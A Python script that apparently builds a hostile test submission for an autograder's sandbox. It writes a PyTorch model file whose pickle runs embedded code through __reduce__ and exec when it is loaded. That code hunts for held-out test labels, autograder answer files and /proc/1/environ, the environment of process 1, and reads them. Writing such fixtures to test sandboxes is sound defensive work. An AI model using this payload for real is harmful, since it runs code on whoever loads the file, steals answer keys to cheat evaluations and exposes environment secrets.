"""Writes examples/submissions/python-hostile/my_model.pt: a pickle that, when the grader unpickles
it (in its sandbox only), looks for the held-out labels where a grading machine keeps them and
tries to pass them off as its predictions. Usage: python3 hostile_model.py OUT.pt
"""
import sys

import torch

ATTACK = '''
import glob, os
found = []
for pattern in ["/usr/share/datasets/fashion-mnist/t10k-labels*", "/autograder/**/labels*",
                os.path.expanduser("~/**/heldout/hidden/*"), "/proc/1/environ"]:
    for name in glob.glob(pattern, recursive=True):
        try:
            with open(name, "rb") as f:
                found.append((name, len(f.read())))
        except OSError as e:
            print("could not read", name, "-", type(e).__name__)
print("answer files read:", found or "none")
raise RuntimeError("no labels to hand back")
'''


class Attack:
    """Unpickling calls exec(ATTACK): what any model file can do to whoever loads it."""

    def __reduce__(self):
        return exec, (ATTACK,)


if __name__ == "__main__":
    torch.save(Attack(), sys.argv[1])
